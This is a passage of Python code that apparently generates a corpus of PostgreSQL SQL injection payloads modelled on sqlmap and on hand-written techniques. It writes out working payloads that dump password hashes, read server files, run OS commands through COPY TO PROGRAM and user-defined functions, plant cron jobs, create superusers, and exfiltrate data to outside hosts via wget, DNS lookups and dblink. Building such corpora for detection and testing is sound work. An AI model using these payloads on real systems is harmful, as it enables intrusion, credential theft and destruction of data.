    """(scalar query, switch) of sqlmap's enumeration, weighted to catalogs the earlier files did not read."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 25)
    k = r.randrange(18)
    if k == 0:
        return "(SELECT %s)" % o.cast("CURRENT_USER"), "--current-user"
    if k == 1:
        return "(SELECT COUNT(usename) FROM pg_shadow)", "--passwords (count)"
    if k == 2:
        return "(SELECT %s FROM pg_shadow OFFSET %d LIMIT 1)" % (o.cast("passwd"), n % 5), "--passwords"
    if k == 3:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 6), "--users"
    if k == 4:
        return "(SELECT %s FROM pg_user WHERE usename=%s)" % (o.cast("usesuper"), o.s(r.choice(ROLES))), "--privileges -U %s" % r.choice(ROLES)
    if k == 5:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables)", "--dbs (count)"
    if k == 6:
        return "(SELECT DISTINCT(%s) FROM pg_tables OFFSET %d LIMIT 1)" % (o.cast("schemaname"), n % 6), "--dbs"
    if k == 7:
        return "(SELECT %s FROM pg_tables WHERE schemaname=%s OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s("public"), n), "--tables -D public"
    if k == 8:
        c = r.choice(cols)
        return ("(SELECT %s FROM pg_namespace,pg_type,pg_attribute b JOIN pg_class a ON a.oid=b.attrelid WHERE a.relnamespace=pg_namespace.oid AND pg_type.oid=b.atttypid AND attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)"
                % (o.cast("attname"), o.s(tbl), o.s("public"), cols.index(c))), "--columns -T %s" % tbl
    if k in (9, 10, 11):
        c = r.choice(cols)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n), "--dump -T %s -C %s" % (tbl, c)
    if k == 12:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl
    if k == 13:
        return "(SELECT %s FROM pg_user_mappings OFFSET %d LIMIT 1)" % (o.cast("array_to_string(umoptions,',')"), n % 3), "--sql-query (pg_user_mappings)"
    if k == 14:
        return "(SELECT %s FROM pg_hba_file_rules OFFSET %d LIMIT 1)" % (o.cast("address"), n % 4), "--sql-query (pg_hba_file_rules)"
    if k == 15:
        return "(SELECT %s FROM pg_stat_activity WHERE pid<>pg_backend_pid() OFFSET %d LIMIT 1)" % (o.cast("query"), n % 3), "--sql-query (pg_stat_activity)"
    if k == 16:
        return "(SELECT %s FROM pg_proc WHERE prosecdef OFFSET %d LIMIT 1)" % (o.cast("proname"), n % 4), "--sql-query (security definer functions)"
    return "(SELECT %s FROM pg_settings WHERE name=%s)" % (o.cast("setting"), o.s(r.choice(["data_directory", "hba_file", "ssl_key_file", "log_directory"]))), "--sql-query (pg_settings)"


def inference(r, o):
    x = r.random()
    if x < 0.07:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES)), "--common-tables"
    e, sw = enumeration(r, o)
    sw = (sw + " " + o.switch).strip()
    if x < 0.72:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 36, 64])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 40), r.choice(bisection(v))), sw
    if x < 0.88:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 30), r.randint(33, 122)), sw + " (--hex off, equality check)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 6, 8, 2])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    if vector:
        INF, sw = inference(r, o)
        QRY, qsw = enumeration(r, o)
        tag, qtag = ":" + sw, ":" + (qsw + " " + o.switch).strip()
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
        QRY = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = qtag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1,
         "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END)" % INF, True),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",%s" % CW(HQ), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, INF if vector else "%d=%d" % (R1, R1), D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, QRY, D2), False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), True),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, True),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]
    if r.random() < 0.04:
        out += [(TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "cond", 1, "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, SLEEP, rstr(r)), False),
                (B, "SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "cond", 1,
                 "AND CASE WHEN %d=%d THEN %d ELSE JSON(CHAR(%d)) END" % (R1, R1, R, R2 % 120), False)]
    return [(f, t, d, p, w, pl, c, qtag if f in (EB, IQ) else tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL."""
    oid = r.randint(10000, 65000)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q, q])
    tbl = "sqlmapfile%s" % r.choice(["", "", rword(r, 3)])
    return r.choice([
        ("--file-read (support table)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--file-read (COPY)", ";COPY %s(data) FROM %s" % (tbl, sp(r.choice(FILES)))),
        ("--file-read (read back)", ";SELECT %s FROM %s OFFSET %d LIMIT 1" % ("COALESCE(CAST(data AS VARCHAR(10000))::text,(CHR(32)))", tbl, r.randint(0, 20))),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (sp(r.choice(FILES)), oid)),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
        ("--file-write (lo_from_bytea)", ";SELECT lo_from_bytea(%d,DECODE(%s,%s))" % (oid, sp(base64.b64encode(bytes(r.randrange(256) for _ in range(12))).decode()), sp("base64"))),
        ("--os-cmd (COPY FROM PROGRAM)", ";CREATE TABLE IF NOT EXISTS sqlmapoutput(data text);COPY sqlmapoutput FROM PROGRAM %s" % sp(cmd)),
        ("--os-pwn (udf)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libsqlmap%s.so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 4)),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval(%s)" % sp(cmd)),
        ("--cleanup (tables)", ";DROP TABLE IF EXISTS sqlmapoutput;DROP TABLE IF EXISTS %s" % tbl)])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 12, 4, 3, 0.5)
    m1, m2, m3 = chrs(delimiter(r)), chrs(delimiter(r)), chrs(delimiter(r))
    x = r.randrange(6)
    if x == 0:
        return "Generic UNION query (%s) - %s columns (ORDER BY probing, --union-cols)" % (filler, rng), "generic", "ORDER BY %d" % r.randint(1, 20), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns" % (filler, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user_mappings", ["srvname", "umoptions"]), ("pg_hba_file_rules", ["type", "address", "auth_method"]),
                    ("pg_stat_activity", ["usename", "query"]), ("pg_settings", ["name", "setting"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", " OFFSET %d LIMIT 1" % r.randint(0, 20)])
    return "Generic UNION query (%s) - %s columns (--dump %s)" % (filler, rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- %s" % rstr(r)] * 6 + ["--", "-- -", "--%s" % rstr(r, 3), ";--", "/*", "#"])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one request: boundaries from sqlmap's boundaries.xml that the earlier files
    sent least -- the derived-table prefix `) AS x WHERE n=n`, doubled brackets `'))` with `AND (('x'='x`,
    the `' IN (` / `')) OR ((` forms, bare numbers with `AND ((n=n`, and --prefix/--suffix pairs."""
    typ, cl = si["type"], si["closers"]
    if where == 2 and typ not in ("col", "dir", "ident"):
        x = r.random()
        orig = "-%d" % randnum(r) if typ in ("n", "list") or x < 0.5 else ("" if x < 0.8 else rstr(r, 5))
    k = (si["cond_k"] if place == "cond" else len(cl)) if r.random() < 0.8 else r.choice([0, 1, 2])
    S, N = rstr(r), randnum(r)
    cmt = sqlmap_comment(r)
    close, reopen = ")" * k, "(" * k
    if typ in ("q", "e", "qi", "d"):
        qc = '"' if typ == "qi" else "'" if typ != "d" else TAG
        if place == "order":
            return orig + qc + payload + cmt if typ == "qi" and si["in_order"] else None
        if place == "repl":
            return payload if typ in ("qi", "d") or r.random() < 0.5 else qc + "||" + payload + "||" + qc
        if place == "stack":
            return orig + qc + close + payload + (cmt if need_comment or r.random() < 0.5 else "")
        if place == "union":
            return orig + qc + close + " " + payload + cmt
        if need_comment:
            return orig + qc + close + " " + payload + cmt
        x = r.random()
        if x < 0.05:
            return orig + qc + ") AS %s WHERE %d=%d " % (S, N, N) + payload + cmt                  # derived-table boundary
        if x < 0.12 and si["cut"] is not None:
            return orig + qc + si["cut"] + " " + payload + cmt
        y = r.random()
        if y < 0.35:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.42 and (len(cl) >= 2 or r.random() < 0.3):
            return orig + qc + "))" + " " + payload + " AND ((" + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.52:
            return orig + qc + close + " " + payload + " OR " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, rstr(r))
        if y < 0.7 and si["like"]:
            return orig + "%" + qc + close + " " + payload + " AND " + reopen + qc + "%" + qc + "=" + qc
        return orig + qc + close + " " + payload + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        if place == "stack":
            return orig + close + payload + (cmt if need_comment or k or r.random() < 0.4 else "")
        if place == "union":
            return orig + close + " " + payload + cmt
        if need_comment:
            return orig + close + " " + payload + cmt
        x = r.random()
        if x < 0.04:
            return orig + ") AS %s WHERE %d=%d " % (S, N, N) + payload + cmt
        if x < 0.1 and si["cut"] is not None:
            return orig + si["cut"] + " " + payload + cmt
        if x < 0.2 and (len(cl) >= 2 or r.random() < 0.3):
            return orig + "))" + " " + payload + " AND ((%d=%d" % (N, N)
        if k and x < 0.75:
            return orig + close + " " + payload + " AND " + reopen + "%d=%d" % (N, N)
        if k or x < 0.85:
            return orig + close + " " + payload + cmt
        return orig + " " + payload
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.35 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        return None
    if typ == "ident" and place == "stack":
        return orig + (si["cut"] or "") + payload + (cmt if need_comment or r.random() < 0.6 else "")
    return None


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR""".split())


def tamper(r, name, s, typ):
    """Chains none of the earlier corpora used, of scripts they used least (least, greatest, between,
    symboliclogical, space2morecomment, multiplespaces, lowercase, commentbeforeparentheses) and header-only
    scripts (xforwardedfor, varnish) that leave the value as it is."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name in ("xforwardedfor", "varnish"):
        return s
    if name == "least":
        return outside(lambda t, i, n: re.sub(r"(\b[\w.()]+)\s*>\s*(\d+)", lambda m: "LEAST(%s,%d)=%d" % (m.group(1), int(m.group(2)) + 1, int(m.group(2)) + 1), t))
    if name == "greatest":
        return outside(lambda t, i, n: re.sub(r"(\b[\w.()]+)\s*>\s*(\d+)", lambda m: "GREATEST(%s,%d)=%s" % (m.group(1), int(m.group(2)) + 1, m.group(1)), t))
    if name == "between":
        return outside(lambda t, i, n: re.sub(r"(\b\w+)\s*=\s*(\d+)\b", r"\1 BETWEEN \2 AND \2", t))
    if name == "symboliclogical":
        return outside(lambda t, i, n: re.sub(r"\bAND\b", "&&", re.sub(r"\bOR\b", "||", t)))
    if name == "space2morecomment":
        return outside(lambda t, i, n: t.replace(" ", "/**_**/"))
    if name == "multiplespaces":
        return outside(lambda t, i, n: re.sub(r"\b(SELECT|FROM|WHERE|AND|OR|UNION|CASE|WHEN|THEN|ELSE)\b", lambda m: " " * r.randint(1, 4) + m.group(0) + " " * r.randint(1, 4), t))
    if name == "lowercase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0).lower() if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "commentbeforeparentheses":
        return outside(lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    raise KeyError(name)


TAMPERS = ["xforwardedfor,least", "least,lowercase", "varnish,greatest,multiplespaces", "between,space2morecomment", "symboliclogical,multiplespaces",
           "lowercase,commentbeforeparentheses", "greatest,between", "space2morecomment,lowercase", "xforwardedfor,multiplespaces,least"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.6, takeover_share=0.25, tamper_share=0.1)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | frame (a window frame bound
# replaced by an expression) | sub (an array subscript replaced) | jkey (a
# JSON key closed and the select list extended).  Cores named stored_* are
# values saved through one form and replayed by a later statement; they go
# only into the templates that replay stored values.
def secs(r):
    return r.choice([3, 5, 7, 9, 11, 14, 20])


DO_TAGS = ["$q17$", "$run$", "$x_x$", "$ñ$", "$Body$", "$fn1$", "$ß$", "$do$", "$$"]
OPEN_TAGS = ["$k$", "$v17$", "$λ$", "$t_$", "$$", "$Z9$", "$w$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hexlit(v):
    return "'\\x%s'::bytea" % v.encode().hex()


def hand_cores(r, fam):
    a, b = r.randint(2, 80), r.randint(81, 999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(30000, 99999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_range_contains", "OR int4range(%d, %d) @> %d" % (a, b, a + 1)), ("or_daterange_overlap", "OR daterange('2025-01-01', '2025-02-01') && daterange('2025-01-15', '2025-03-01')"),
            ("or_tsquery_match", "OR to_tsvector('%s') @@ to_tsquery('%s')" % (w, w)), ("or_jsonb_path_exists", "OR jsonb_path_exists('{\"%s\": %d}', '$.%s')" % (w, a, w)),
            ("or_jsonb_exists_op", "OR '{\"%s\": 1}'::jsonb ? '%s'" % (w, w)), ("or_array_overlap", "OR ARRAY[%d, %d] && ARRAY[%d]" % (a, b, a)),
            ("or_inet_contains", "OR '10.0.0.0/8'::inet >> '10.%d.0.1'::inet" % (a % 255)), ("or_is_distinct_null", "OR %d IS DISTINCT FROM NULL" % a),
            ("or_coalesce_true", "OR coalesce(NULL, true)"), ("or_nullif_null", "OR nullif(%d, %d) IS NULL" % (a, a)), ("or_bool_and", "OR (SELECT bool_and(v) FROM (VALUES (true)) z(v))"),
            ("or_greatest_eq", "OR greatest(%d, %d) = %d" % (a, b, b)), ("or_between_symmetric", "OR %d BETWEEN SYMMETRIC %d AND %d" % (a, b, 1)),
            ("or_regexp_like", "OR regexp_like('%s', '^%s')" % (w, w[0])), ("or_exists_values", "OR EXISTS (VALUES (%d))" % a),
            ("or_numrange_empty", "OR isempty(numrange(%d, %d))" % (a, a)), ("or_ilike_any", "OR '%s' ILIKE ANY (ARRAY['%s%%', 'zz'])" % (w, w[:2])),
            ("or_lower_inf", "OR lower_inf('(,%d]'::int4range)" % a), ("or_char_length", "OR char_length('%s') = %d" % (w, len(w))),
            ("or_1_eq_1_paren", "OR (%d)=(%d)" % (a, a)), ("or_not_false", "OR NOT false"), ("stored_or_same", "OR '%s' = '%s'" % (w, w))]] + [
            ("set_winner_everywhere", "assign", "{col} = true WHERE true", PG), ("set_col_where_1", "assign", "{col} = %d WHERE 1 = 1" % b, PG)]
    if fam == "union":
        n = r.randint(1, 8)
        pos = r.randrange(n)
        arms = [("shadow", "usename||':'||coalesce(passwd,'')", " FROM pg_shadow"), ("user_mappings", "srvname||' '||array_to_string(umoptions, ',')", " FROM pg_user_mappings"),
                ("foreign_servers", "srvname||' '||array_to_string(srvoptions, ',')", " FROM pg_foreign_server"),
                ("hba_rules", "type||' '||array_to_string(database, ',')||' '||coalesce(address,'')", " FROM pg_hba_file_rules"),
                ("activity_queries", "usename||': '||query", " FROM pg_stat_activity"), ("policies", "tablename||' '||policyname||' '||coalesce(qual,'')", " FROM pg_policies"),
                ("secdef_sources", "proname||' '||prosrc", " FROM pg_proc WHERE prosecdef"), ("ci_secrets", "name||'='||value", " FROM brew_ci_secrets"),
                ("metabase_users", "email||':'||password", " FROM core_user"), ("loot_pair", "%s||':'||%s" % (u, p), " FROM %s" % t),
                ("settings_paths", "name||'='||setting", " FROM pg_settings WHERE name LIKE '%file%'"), ("event_triggers", "evtname||' '||evtevent", " FROM pg_event_trigger")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(5)
        out = [("returning_loot", "returning", "RETURNING (SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), PG),
               ("returning_shadow", "returning", "RETURNING (SELECT string_agg(usename || ':' || coalesce(passwd, ''), ',') FROM pg_shadow)", PG),
               ("stored_union_loot", "union", "UNION ALL SELECT %s FROM %s" % (nulls(n, pos, "%s||':'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_lateral_" + name, "union", "UNION ALL SELECT %s FROM (SELECT 1) o CROSS JOIN LATERAL (SELECT %s AS v%s) l" % (nulls(n, pos, "l.v"), ex, frm), PG)]
        if style == 1:
            return out + [("union_json_agg_" + name, "union", "UNION ALL SELECT %s" % nulls(n, pos, "(SELECT json_agg(%s)::text%s)" % (ex, frm)), PG)]
        if style == 2:
            return out + [("union_cte_" + name, "union", "UNION ALL (WITH z AS (SELECT %s AS v%s) SELECT %s FROM z)" % (ex, frm, nulls(n, pos, "v")), PG)]
        if style == 3:
            return out + [("union_except_" + name, "union", "EXCEPT SELECT %s WHERE false UNION ALL SELECT %s%s" % (nulls(n), nulls(n, pos, ex), frm), PG)]
        kw = r.choice(["UNION ALL SELECT", "uNiOn AlL sElEcT", "UNION\tSELECT", "UNION DISTINCT SELECT", "union all\nselect"])
        return out + [("union_arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("create_user_mapping", "CREATE USER MAPPING FOR PUBLIC SERVER %s OPTIONS (user 'x', password 'x')" % nm),
            ("foreign_server_attacker", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'x')" % (nm, ip)),
            ("policy_disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t), ("policy_permissive_all", "CREATE POLICY %s ON %s FOR ALL USING (true)" % (nm, t)),
            ("event_trigger_plant", "CREATE EVENT TRIGGER %s ON ddl_command_end EXECUTE FUNCTION pg_catalog.pg_reload_conf()" % nm),
            ("hasura_metadata_wipe", "DELETE FROM hdb_catalog.hdb_metadata"), ("metabase_make_admin", "UPDATE core_user SET is_superuser = true WHERE email = '%s@%s'" % (w, host)),
            ("grafana_datasource_redirect", "UPDATE data_source SET url = 'http://%s:5432' WHERE type = 'postgres'" % ip),
            ("flyway_history_forge", "DELETE FROM flyway_schema_history WHERE success = false"), ("liquibase_lock_hold", "UPDATE databasechangeloglock SET locked = true, lockedby = '%s'" % nm),
            ("create_superuser", "CREATE ROLE %s SUPERUSER LOGIN PASSWORD '%s'" % (nm, rword(r, 12))), ("grant_role_to_public", "GRANT %s TO PUBLIC" % role),
            ("revoke_app_rights", "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM %s" % role), ("drop_loot_table", "DROP TABLE IF EXISTS %s CASCADE" % t),
            ("set_password_known", "ALTER USER %s WITH PASSWORD '%s'" % (role, rword(r, 9))), ("cancel_all_backends", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity"),
            ("lock_nowait_denial", "LOCK TABLE %s IN EXCLUSIVE MODE" % t), ("update_secret_known", "UPDATE %s SET %s = '%s' WHERE %s = '%s'" % (t, p, rword(r, 32), u, who)),
            ("insert_backdoor_row", "INSERT INTO %s (%s, %s) VALUES ('%s', '%s')" % (t, u, p, nm, rword(r, 16))), ("checkpoint_reload", "CHECKPOINT; SELECT pg_reload_conf()"),
            ("alter_system_log_off", "ALTER SYSTEM SET log_min_duration_statement = -1"), ("prepare_transaction_hold", "BEGIN; LOCK TABLE %s; PREPARE TRANSACTION '%s'" % (t, nm)),
            ("stored_name_then_drop", "DROP TABLE %s" % t), ("stored_name_then_superuser", "ALTER ROLE %s SUPERUSER" % role)]] + [
            ("row_extra_attacker", "row", row_of("'%s'" % w), PG), ("row_pair_null", "row", lambda n: ", ".join(["NULL"] * n) + "), (" + ", ".join(["'%s'" % w2] + ["NULL"] * (n - 1)), PG),
            ("conflict_do_update_all", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT %s FROM %s LIMIT 1)" % (p, t), PG)]
    if fam == "oob_file_program":
        pc = plain(cmd)
        return [(n, m, c, PG) for n, m, c in [
            ("copy_program_wget_post", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'wget -q --post-file=/dev/stdin http://%s/'" % (p, t, host)),
            ("copy_program_sh", "stack", "COPY (SELECT 1) TO PROGRAM 'sh -c \"%s\"'" % pc), ("copy_to_cron", "stack", "COPY (SELECT '* * * * * %s') TO '/var/spool/cron/crontabs/postgres'" % pc),
            ("copy_from_program_env", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM 'env'; SELECT string_agg(l, ',') FROM %s" % (nm, nm, nm)),
            ("lo_from_bytea_export", "stack", "SELECT lo_export(lo_from_bytea(0, %s), '/tmp/%s.sh')" % (hexlit("#!/bin/sh\n%s\n" % pc), nm)),
            ("lo_import_get", "stack", "SELECT convert_from(lo_get(lo_import('%s')), 'UTF8')" % f),
            ("read_file_stat_size", "cond", "AND (pg_stat_file('%s')).size > %d" % (f, a)), ("read_file_substr", "cond", "AND substr(pg_read_file('%s'), 1, 1) = '%s'" % (f, w[0])),
            ("ls_dir_count", "cond", "AND (SELECT count(*) FROM pg_ls_dir('.')) > %d" % a), ("ls_archive_status", "union", "UNION ALL SELECT name FROM pg_ls_archive_statusdir()"),
            ("read_file_concat", "concat", "pg_read_file('%s', 0, 200)" % f), ("read_binary_repl", "repl", "(SELECT length(pg_read_binary_file('%s')))" % f),
            ("dblink_exfil_query", "cond", "AND dblink_connect('%s', 'hostaddr=%s user=' || current_user || ' password=x') IS NOT NULL" % (nm, ip)),
            ("postgres_fdw_beacon", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s.%s'); CREATE USER MAPPING FOR current_user SERVER %s" % (nm, nm, host, nm)),
            ("copy_program_dns_secret", "stack", "DO $$BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %%L', 'nslookup ' || (SELECT md5(%s) FROM %s LIMIT 1) || '.%s'); END$$" % (p, t, host)),
            ("logfile_read", "union", "UNION SELECT pg_read_file(current_setting('log_directory') || '/' || pg_ls_logdir_name.name) FROM (SELECT name FROM pg_ls_logdir() LIMIT 1) pg_ls_logdir_name"),
            ("assign_file_contents", "assign", "{col} = pg_read_file('%s')" % f), ("row_file_contents", "row", row_of("pg_read_file('%s')" % f)),
            ("stored_copy_to_program", "stack", "COPY (SELECT '') TO PROGRAM '%s'" % pc)]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("sleep_for_interval", "cond", "AND pg_sleep_for('%d seconds') IS NULL" % s), ("sleep_in_values", "cond", "AND EXISTS (SELECT 1 FROM (VALUES (pg_sleep(%d))) z)" % s),
